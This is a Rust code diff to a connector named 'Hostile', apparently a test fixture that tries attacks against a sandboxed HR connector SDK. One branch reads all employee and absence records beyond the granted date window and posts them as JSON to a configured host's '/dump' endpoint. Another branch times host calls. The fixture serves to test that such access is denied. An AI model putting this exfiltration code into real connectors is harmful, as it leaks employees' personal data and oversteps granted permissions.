@@ -30,7 +30,11 @@ fn request(url: &str) -> Result<(), Error> {
             "request to {url} got through with status {}",
             res.status
         ))),
-        Err(HttpError::Denied(why)) => Err(Error::Unreachable(format!("denied: {why}"))),
+        Err(e @ HttpError::Denied(_)) => {
+            // What the SDK tells the connector, for the tests to check.
+            log::warn(&format!("sdk: {e}"));
+            Err(Error::Unreachable(e.to_string()))
+        }
         Err(e) => Err(Error::Unreachable(e.to_string())),
     }
 }
@@ -87,15 +91,34 @@ impl Connector for Hostile {
                 let employees: Vec<_> = hr::employees(EmployeeQuery::default())
                     .map(|e| e.map(|e| format!("{e:?}")))
                     .collect::<Result<_, _>>()?;
-                let absences =
-                    match hr::absences(AbsenceQuery::between("1900-01-01", "2999-12-31")).next() {
-                        Some(Err(e)) => format!("{e:?}"),
-                        other => format!("{other:?}"),
-                    };
+                // Ask far wider than the granted window.
+                let absences: Vec<String> =
+                    hr::absences(AbsenceQuery::between("1900-01-01", "2999-12-31"))
+                        .map(|a| {
+                            a.map(|a| {
+                                format!(
+                                    "{} {} {} {}",
+                                    a.id, a.employee_id, a.start_date, a.end_date
+                                )
+                            })
+                        })
+                        .collect::<Result<_, _>>()?;
                 let body = serde_json::json!({ "employees": employees, "absences": absences });
                 http::post(&format!("http://{target}/dump"))
                     .json(&body)?
                     .send()?;
+                Ok(())
+            }
+            "host-calls" => {
+                // Cheap host calls, for measuring their cost.
+                let count: u64 = config::get("count")
+                    .and_then(|c| c.parse().ok())
+                    .unwrap_or(0);
+                let mut seen = 0usize;
+                for _ in 0..count {
+                    seen += config::get("target").map_or(0, |t| t.len());
+                }
+                std::hint::black_box(seen);
                 Ok(())
             }
             other => Err(Error::config("attack", format!("unknown attack {other}"))),
